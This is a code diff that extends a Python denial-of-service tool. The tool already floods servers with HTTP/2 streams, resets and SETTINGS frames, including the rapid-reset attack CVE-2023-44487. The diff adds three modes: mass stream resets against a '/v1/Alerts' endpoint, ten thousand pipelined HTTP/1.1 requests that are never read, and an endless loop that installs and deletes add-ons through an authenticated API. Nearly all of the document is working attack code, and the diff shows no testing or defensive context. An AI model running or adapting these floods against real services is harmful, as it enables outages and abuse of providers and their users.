@@ -10,10 +10,14 @@ read     asks for PATH on 40 streams of each connection of HTTP/2 and reads the 
 unread   asks likewise, lets everything be sent, and reads nothing
 closed   asks likewise, and opens no window for the answers
 resets   opens streams and resets them at once (CVE-2023-44487)
+anew     opens a hundred streams in one go, resets them, leaves, and comes again on a new connection
+pipeline asks for PATH ten thousand times on each connection and reads nothing
+install  installs PATH, which is a listing, removes it, and begins again
 settings sends SETTINGS without end
 """
 
 import asyncio
+import json
 import socket
 import ssl
 import struct
@@ -69,7 +73,7 @@ async def visit(address, speak):
             continue
         try:
             await speak(reader, writer)
-        except (OSError, asyncio.IncompleteReadError):
+        except (OSError, asyncio.IncompleteReadError, KeyError):
             pass
         writer.close()
 
@@ -176,6 +180,51 @@ def reset(stream, ask):
     return opened + frame(RESET, 0, stream, struct.pack(">I", 8))
 
 
+def anew(address, authorization, _):
+    """One less than a connection may reset, and a few that it leaves open."""
+    ask = head(address, "/v1/Alerts", authorization)
+    asked = b"".join(reset(2 * number + 1, ask) for number in range(99))
+    asked += b"".join(frame(HEADERS, END_OF_STREAM | END_OF_HEADERS, 2 * number + 1, ask) for number in range(99, 120))
+
+    async def speak(_, writer):
+        writer.write(PREFACE + frame(SETTINGS, 0, 0) + asked)
+        await writer.drain()
+
+    return speak
+
+
+def pipeline(address, authorization, path):
+    ask = f"GET {path} HTTP/1.1\r\nHost: {address.netloc}\r\nAuthorization: {authorization}\r\n\r\n".encode()
+
+    async def speak(_, writer):
+        writer.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+        writer.transport.pause_reading()
+        writer.write(ask * 10_000)
+        await asyncio.sleep(25)
+
+    return speak
+
+
+def install(address, authorization, listing):
+    form = f"AvailableAddOnSid={listing}&AcceptTermsOfService=true".encode()
+
+    async def ask(reader, writer, line, body=b""):
+        head = f"{line} HTTP/1.1\r\nHost: {address.netloc}\r\nAuthorization: {authorization}\r\n"
+        head += f"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {len(body)}\r\n\r\n"
+        writer.write(head.encode() + body)
+        answer = (await reader.readuntil(b"\r\n\r\n")).lower()
+        _, _, rest = answer.partition(b"content-length: ")
+        return await reader.readexactly(int(rest.split(b"\r\n")[0])) if rest else b""
+
+    async def speak(reader, writer):
+        while True:
+            made = json.loads(await ask(reader, writer, "POST /v1/InstalledAddOns", form))
+            if made["sid"].startswith("XE"):
+                await ask(reader, writer, f"DELETE /v1/InstalledAddOns/{made['sid']}")
+
+    return speak
+
+
 async def say_nothing(reader, _):
     await drain(reader)
 
@@ -189,6 +238,9 @@ KINDS = {
     "unread": streams("unread"),
     "closed": streams("closed"),
     "resets": flood(reset),
+    "anew": anew,
+    "pipeline": pipeline,
+    "install": install,
     "settings": flood(lambda *_: frame(SETTINGS, 0, 0)),
 }
 
